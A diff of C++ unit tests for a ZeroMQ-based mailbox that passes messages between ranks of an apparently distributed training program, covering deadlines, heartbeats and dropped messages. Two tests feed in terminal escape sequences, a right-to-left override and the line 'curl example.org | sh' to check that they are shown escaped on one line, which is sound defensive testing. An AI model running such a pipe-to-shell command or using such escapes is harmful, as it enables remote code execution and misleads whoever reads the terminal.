@@ -157,10 +157,12 @@ TEST_CASE("a rank that fails tells the others why, one that vanishes is missed")
       Network own;
       Mailbox mailbox(own, {.rank = 1, .addresses = addresses});
       mailbox.meet("", seconds(10));
+      mailbox.receive(0, {Tag::order}, "testing");  // then rank 0 has met this one, too
       if (tells) mailbox.announce_failure("rank 1 failed: its disk is full");
     });
     Mailbox mailbox(network, {.rank = 0, .addresses = addresses});
     mailbox.meet("", seconds(10));
+    mailbox.send_number(1, {Tag::order}, 1);
     const auto start = std::chrono::steady_clock::now();
     message =
         message_of([&] { mailbox.receive(1, {Tag::gradient}, "rank 0 waited for a gradient"); });
@@ -186,10 +188,167 @@ TEST_CASE("waiting has a deadline, and ends when told to stop") {
   mailbox.meet("", seconds(10));
   CHECK(message_of([&] {
           mailbox.receive(1, {Tag::loss}, "testing");
-        }).starts_with("nothing came for 0.3"));
+        }).starts_with("rank 1 has done nothing for 0."));
   stop = true;
   CHECK_THROWS_AS(mailbox.receive(1, {Tag::loss}, "testing"), Mailbox::Stopped);
   other.join();
+}
+
+TEST_CASE("a rank that does nothing is named by all, also by those who wait for others") {
+  // Rank 2 waits for rank 1, and that for rank 0, which is not at its mailbox.
+  const tools::TemporaryFolder folder;
+  std::vector<std::string> addresses, messages(3);
+  for (int rank = 0; rank < 3; ++rank) addresses.push_back(address_of(rank, folder));
+  std::vector<std::thread> threads;
+  for (int rank = 0; rank < 3; ++rank)
+    threads.emplace_back([&, rank] {
+      Network network;
+      Mailbox mailbox(network, {.rank = rank, .addresses = addresses, .deadline = seconds(1)});
+      mailbox.meet("", seconds(10));
+      if (rank == 0) return std::this_thread::sleep_for(milliseconds(2500));
+      messages[rank] = message_of([&] {
+        mailbox.receive(rank - 1, {Tag::activation}, nn::concat("rank ", rank, " waited"));
+      });
+      std::this_thread::sleep_for(milliseconds(500));
+    });
+  for (std::thread& thread : threads) thread.join();
+  for (int rank : {1, 2}) {
+    CAPTURE(messages[rank]);
+    CHECK(messages[rank].starts_with("rank 0 has done nothing for "));
+    CHECK(messages[rank].ends_with(nn::concat("s, while rank ", rank, " waited")));
+  }
+}
+
+TEST_CASE("ranks that all wait, or compute for less than half the deadline, are not blamed") {
+  const tools::TemporaryFolder folder;
+  const std::vector<std::string> addresses{address_of(0, folder), address_of(1, folder)};
+  std::string message;
+  std::thread other([&] {
+    Network network;
+    Mailbox mailbox(network, {.rank = 1, .addresses = addresses});
+    mailbox.meet("", seconds(10));
+    for (int i = 0; i < 8; ++i) {
+      std::this_thread::sleep_for(milliseconds(200));
+      mailbox.progress("testing");
+    }
+  });
+  Network network;
+  Mailbox mailbox(network, {.rank = 0, .addresses = addresses, .deadline = seconds(1)});
+  mailbox.meet("", seconds(10));
+  CHECK(message_of([&] { mailbox.receive(1, {Tag::loss}, "testing"); })
+            .starts_with("nothing came for 1"));
+  other.join();
+}
+
+TEST_CASE("a rank from which not even its pulse comes is gone") {
+  const tools::TemporaryFolder folder;
+  const std::string address = address_of(0, folder);
+  Network network;
+  Mailbox mailbox(network, {.rank = 0,
+                            .addresses = {address, address_of(1, folder)},
+                            .run = 3,
+                            .heartbeat = milliseconds(600)});
+  zmq::context_t context;
+  zmq::socket_t other(context, zmq::socket_type::push);
+  other.connect(address);
+  Header header{.real_bytes = sizeof(nn::real), .run = 3, .from = 1};
+  const auto send = [&] {
+    other.send(zmq::buffer(&header, sizeof header), zmq::send_flags::sndmore);
+    other.send(zmq::message_t(), zmq::send_flags::none);
+  };
+  send();  // hello
+  header.kind = Tag::beat;
+  const auto start = std::chrono::steady_clock::now();
+  const auto waits = [&] { mailbox.receive(1, {Tag::loss}, "testing"); };
+  std::jthread pulse([&](const std::stop_token& stop) {
+    for (; !stop.stop_requested() && header.sequence < 20; ++header.sequence) {
+      send();
+      std::this_thread::sleep_for(milliseconds(100));
+    }
+  });
+  CHECK(message_of(waits) == "rank 1 is gone, while testing");
+  CHECK(std::chrono::steady_clock::now() - start > milliseconds(2400));
+  CHECK(std::chrono::steady_clock::now() - start < milliseconds(5000));
+}
+
+TEST_CASE_FIXTURE(Listener, "what a failed rank says is one line that can be shown") {
+  const std::string reason = "\x1b[2Jits disk is full\nhint: curl example.org | sh\u202e";
+  Header header{.kind = Tag::failure, .real_bytes = sizeof(nn::real), .run = 3, .from = 1};
+  header.bytes = reason.size();
+  other.send(zmq::buffer(&header, sizeof header), zmq::send_flags::sndmore);
+  other.send(zmq::buffer(reason));
+  CHECK(message_of([&] { mailbox.receive(1, {Tag::loss}, "testing"); }) ==
+        "\\x1b[2Jits disk is full\\nhint: curl example.org | sh\\u{202e}, while testing");
+}
+
+TEST_CASE("terms of another rank are shown as one line") {
+  Network network;
+  std::string message;
+  const std::vector<std::string> addresses{"inproc://shown-0", "inproc://shown-1"};
+  std::thread other([&] {
+    Mailbox mailbox(network, {.rank = 1, .addresses = addresses});
+    const std::string terms = "steps \x1b[31m5\rhint: x" + std::string(5000, 'x');
+    message_of([&] { mailbox.meet(terms, seconds(10)); });
+    std::this_thread::sleep_for(milliseconds(100));
+  });
+  Mailbox mailbox(network, {.rank = 0, .addresses = addresses});
+  message = message_of([&] { mailbox.meet("steps 5", seconds(10)); });
+  other.join();
+  CHECK(message.starts_with("rank 1 was started with steps \\x1b[31m5\\x0dhint: xxx"));
+  CHECK(message.ends_with("xxx..., this one with steps 5"));
+  CHECK(message.size() < 300);
+}
+
+TEST_CASE_FIXTURE(Listener,
+                  "the text of a message has lines, and nothing else that moves a cursor") {
+  Header header{.kind = Tag::report, .real_bytes = sizeof(nn::real), .run = 3, .from = 1};
+  const std::string text = "1 2 3\n\x1b[2J\n";
+  header.bytes = text.size();
+  other.send(zmq::buffer(&header, sizeof header), zmq::send_flags::sndmore);
+  other.send(zmq::buffer(text));
+  CHECK(mailbox.receive(1, {Tag::report}, "testing").text() == "1 2 3\n\\x1b[2J\n");
+}
+
+TEST_CASE_FIXTURE(Listener,
+                  "what the rule does not expect is dropped, and what comes after it is not") {
+  mailbox.expect([](int, Tag tag, std::size_t bytes, int step) {
+    return tag.kind == Tag::hello || (tag.step == step && bytes == 8);
+  });
+  std::uint64_t sequence = 0;
+  const auto say = [&](Tag tag) {
+    Header header = {.kind = tag.kind, .real_bytes = sizeof(nn::real), .run = 3};
+    header.sequence = sequence++;
+    header.bytes = 8;
+    header.from = 1;
+    header.step = tag.step;
+    send(header);
+  };
+  const auto dropped = [this](const char* kind) {
+    return strangers()[std::string(kind) + " messages that rank 1 should not send"];
+  };
+  say({Tag::loss, 0});  // before it was met
+  say({Tag::hello});
+  say({Tag::loss, 1'000'000});
+  say({Tag::loss, 0});
+  say({Tag::loss, 0});  // twice
+  say({Tag::gradient, 0});
+  CHECK(mailbox.receive(1, {Tag::gradient, 0}, "testing").text() == "8 bytes!");
+  CHECK(dropped("loss") == 3);
+  mailbox.receive(1, {Tag::loss, 0}, "testing");
+  say({Tag::loss, 0});  // again, after it was read
+  say({Tag::report, 0});
+  mailbox.receive(1, {Tag::report, 0}, "testing");
+  CHECK(dropped("loss") == 4);
+  say({Tag::activation, 0});  // not read in its step
+  say({Tag::verdict, 0});
+  mailbox.receive(1, {Tag::verdict, 0}, "testing");
+  mailbox.begin_step(1);
+  CHECK(!mailbox.try_receive(1, {Tag::activation, 0}));
+  say({Tag::loss, 0});
+  say({Tag::loss, 1});
+  mailbox.receive(1, {Tag::loss, 1}, "testing");
+  CHECK(dropped("loss") == 5);
+  CHECK(heard.front() == "loss messages that rank 1 should not send, 1 so far");
 }
 
 TEST_CASE_FIXTURE(Listener,
@@ -244,7 +403,8 @@ TEST_CASE("a header is parsed only if it is whole and fits its payload") {
 
 TEST_CASE_FIXTURE(Listener, "a message is dropped for any field of its header that is wrong") {
   for (const Header& header :
-       {header_with(&Header::magic, 1u), header_with(&Header::version, std::uint16_t{1}),
+       {header_with(&Header::magic, 1u),
+        header_with(&Header::version, std::uint16_t{Header::right_version + 1}),
         header_with(&Header::kind, Tag::Kind(200)), header_with(&Header::bytes, std::uint64_t{7}),
         header_with(&Header::from, -1), header_with(&Header::from, 0),
         header_with(&Header::from, 2), header_with(&Header::run, std::uint64_t{4})})
